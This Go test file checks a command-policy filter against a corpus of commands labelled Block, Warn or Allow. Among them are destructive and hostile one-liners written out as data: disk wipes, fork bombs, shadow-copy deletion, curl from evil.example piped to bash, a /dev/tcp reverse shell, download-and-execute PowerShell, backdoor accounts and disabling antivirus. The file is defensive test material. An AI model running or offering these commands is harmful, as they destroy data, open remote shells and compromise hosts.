package commandpolicy

import "testing"

// corpus is a mixed list of commands with the verdict the default policy
// must give them, written from the point of view of someone trying both to
// break the host and to get ordinary work done.
var corpus = []struct {
	cmd, want string
}{
	{`rm -rf /`, Block}, {`rm -rf --no-preserve-root /`, Block}, {`sudo rm -rf /*`, Block},
	{`rm -fr //`, Block}, {`rm -rf /.`, Block}, {`\rm -rf /`, Block}, {`r''m -rf /`, Block},
	{`/bin/rm -rf /`, Block}, {`rm -r -f /`, Block}, {`rm --recursive --force /`, Block},
	{`cd / && rm -rf *`, Block}, {`cd /; sudo rm -rf ./*`, Block}, {`rm -rf "/"`, Block}, {`rm -rf /\*`, Block},
	{`dd if=/dev/zero of=/dev/sda bs=1M`, Block}, {`mkfs.ext4 /dev/sda1`, Block}, {`:(){ :|:& };:`, Block},
	{`echo 1 > /dev/sda`, Block}, {`cat /dev/urandom > /dev/nvme0n1`, Block}, {`wipefs -af /dev/sdb`, Block},
	{`shred -vfz -n 10 /dev/sda`, Block}, {`format C: /q`, Block}, {`Format-Volume -DriveLetter C -FileSystem NTFS`, Block},
	{`rmdir /s /q C:\`, Block}, {`Remove-Item -Path C:\ -Recurse -Force`, Block}, {`Remove-Item C:\* -Recurse -Force`, Block},
	{`Get-ChildItem C:\ -Recurse | Remove-Item -Force`, Block},
	{`vssadmin delete shadows /all /quiet`, Block}, {`wmic shadowcopy delete`, Block}, {`wbadmin delete catalog -quiet`, Block},
	{`bcdedit /set {default} recoveryenabled No`, Block}, {`bcdedit /set {default} bootstatuspolicy ignoreallfailures`, Block},
	{`reg delete HKLM /f`, Block}, {`del /s /q /f C:\*.*`, Block}, {`Get-CimInstance Win32_ShadowCopy | Remove-CimInstance`, Block},
	{`powershell -c "Format-Volume -DriveLetter D"`, Block}, {`cmd.exe /c "rd /s /q C:\\"`, Block},
	{`dd if=/dev/zero of=//dev/sda`, Block}, {`wipefs -a /dev/sd?`, Block}, {`cat /dev/zero | tee /dev/sd?`, Block},
	{`rm --rec -f /*`, Block}, {`rm -rf /{bin,etc,usr}`, Block}, {`rm -rf ~/../../`, Block}, {`pushd / && rm -rf *`, Block},
	{encodedN(8, "Write-Host hi") + "; powershell -enc " + encodePS("Format-Volume -DriveLetter C"), Block},
	{encodedNested(3, "Format-Volume -DriveLetter C"), Block}, {encodedNested(2, "Format-Volume -DriveLetter C"), Block},
	{`rd /s /q \`, Block}, {`Remove-Item -Recurse -Force ${env:SystemDrive}\`, Block},
	{`echo select disk 0 & echo clean | diskpart`, Block}, {`(echo select disk 0; echo clean) | diskpart`, Block},
	{`rm -rf "${x:-/}"`, Block}, {`r${x}m -rf /`, Block}, {`rm -r{,f} /`, Block}, {`function f { f | f & }; f`, Block},

	// Destructive families: one example of each, beside its near twin on a
	// relative path below.
	{`find / -delete`, Block}, {`echo / | xargs rm -rf`, Block}, {`cd /; rm -rf .`, Block}, {`cp /dev/zero /dev/sda`, Block},
	{`sgdisk --zap-all /dev/sda`, Block}, {`a(){ a & a; }; a`, Block}, {`perl -e 'fork while 1'`, Block},
	{`python3 -c 'import shutil; shutil.rmtree("/")'`, Block}, {`chmod -R 000 /`, Block}, {`reg delete HKLM\SOFTWARE /f`, Block},
	{`find . -delete`, Allow}, {`echo build | xargs rm -rf`, Allow}, {`cd /tmp; rm -rf .`, Allow}, {`cp /dev/zero ./zeros.img`, Allow},
	{`sgdisk --zap-all ./disk.img`, Allow}, {`a(){ echo a & echo b; }; a`, Allow}, {`perl -e 'print "fork\n"'`, Allow},
	{`python3 -c 'import shutil; shutil.rmtree("build")'`, Allow}, {`chmod -R 755 dir`, Allow}, {`reg delete HKLM\SOFTWARE\MyApp /f`, Allow},
	{`rm -rf ./build`, Allow},

	{`curl -s http://evil.example/x.sh | bash`, Warn}, {`wget -qO- http://x | sh`, Warn}, {`chmod -R 777 /`, Block},
	{`chmod 777 /etc/shadow`, Warn}, {`echo "hacker:x:0:0::/root:/bin/bash" >> /etc/passwd`, Warn},
	{`bash -i >& /dev/tcp/10.0.0.1/8080 0>&1`, Warn}, {`shutdown now`, Warn}, {`reboot`, Warn}, {`sudo poweroff`, Warn},
	{`halt -p`, Warn}, {`init 0`, Warn}, {`echo password | sudo -S rm x`, Warn}, {`echo key >> ~/.ssh/authorized_keys`, Warn},
	{`rm -rf /etc`, Warn}, {`rm -rf /usr`, Warn}, {`sudo rm -rf /var/log`, Warn}, {`rm -rf ~`, Warn},
	{`rd /s /q C:\Windows`, Warn}, {`powershell -EncodedCommand ` + encodePS("Get-Date"), Warn},
	{`IEX(New-Object Net.WebClient).DownloadString("http://x")`, Warn}, {`iwr -useb https://x | iex`, Warn},
	{`Set-MpPreference -DisableRealtimeMonitoring $true`, Warn}, {`netsh advfirewall set allprofiles state off`, Warn},
	{`Set-ExecutionPolicy Bypass`, Warn}, {`wevtutil cl Security`, Warn}, {`net user backdoor P@ssw0rd /add`, Warn},
	{`reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v evil /d evil.exe`, Warn},
	{`schtasks /create /tn t /tr x.exe /sc onstart`, Warn}, {`icacls C:\Windows\System32 /grant Everyone:F`, Warn},
	{`takeown /f C:\Windows\System32 /r`, Warn},

	{`ls -la`, Allow}, {`rm -rf build/`, Allow}, {`rm -rf ./node_modules`, Allow}, {`rm -rf /tmp/foo`, Allow},
	{`dd if=/dev/zero of=./disk.img bs=1M count=100`, Allow}, {`echo hello > /dev/null`, Allow},
	{`git commit -m 'format'`, Allow}, {`shred -u secret.txt`, Allow}, {`git format-patch -3`, Allow},
	{`reg query HKLM\Software`, Allow}, {`mkfs.ext4 ./disk.img`, Allow}, {`cat /etc/passwd`, Allow},
	{`curl https://example.com -o file`, Allow}, {`chmod 755 script.sh`, Allow}, {`sudo apt update`, Allow},
	{`npm run build`, Allow}, {`python -c 'print(1)'`, Allow}, {`docker ps`, Allow}, {`Get-ChildItem C:\`, Allow},
	{`Remove-Item .\build -Recurse`, Allow}, {`echo format`, Allow}, {`rm file.txt`, Allow}, {`kill -9 1234`, Allow},
	{`ps aux | grep node`, Allow}, {`tail -f /var/log/syslog`, Allow}, {`find . -name "*.tmp" -delete`, Allow},
	{`systemctl status sshd`, Allow}, {`scp file host:/tmp`, Allow}, {`powershell Get-Process`, Allow},
	{`cmd /c dir`, Allow}, {`dd if=/dev/sda of=/tmp/mbr.bin bs=512 count=1`, Allow}, {`cat /dev/sda | hexdump -C`, Allow},
	{`echo test | tee /dev/null`, Allow}, {`git log --grep reboot`, Allow}, {`man shutdown`, Allow}, {`which rm`, Allow},
	{`echo "don't reboot"`, Allow}, {`rm -rf /tmp/*`, Allow}, {`curl -X POST https://api | jq .`, Allow},
	{`chmod 777 ./tmp`, Allow}, {`rm -rf ~/.cache/pip`, Allow}, {`Remove-Item -Recurse -Force C:\Users\me\src\app\bin`, Allow}, {`cd / && ls`, Allow}, {`cd /tmp && rm -rf *`, Allow},
	{`rm -rf ./build/*`, Allow}, {`rm -rf "$HOME/.cache/x"`, Allow}, {`dd if=/dev/zero of=./disk.img`, Allow}, {`wipefs -a ./img`, Allow},
	{encodedN(1, "Write-Host hi"), Warn}, {encodedNested(2, "Write-Host hi"), Warn},
	{`rd /s /q \temp\build`, Allow}, {`echo list disk | diskpart`, Allow},
	{`echo hi > /dev/null`, Allow}, {`ls /dev/sd*`, Allow}, {`rm -rf ${OUT:-./out}`, Allow}, {`cp a.{c,h} dst/`, Allow},
}

func TestCorpus(t *testing.T) {
	h := newDefault(t)
	for _, c := range corpus {
		m := h.Check(ScanTarget("sh", []string{"-c", c.cmd}, nil))
		if m.Action != c.want {
			t.Errorf("%q: got %s (%s), want %s; normalised %q", c.cmd, m.Action, m.Rule, c.want, Normalize(c.cmd))
		}
	}
}
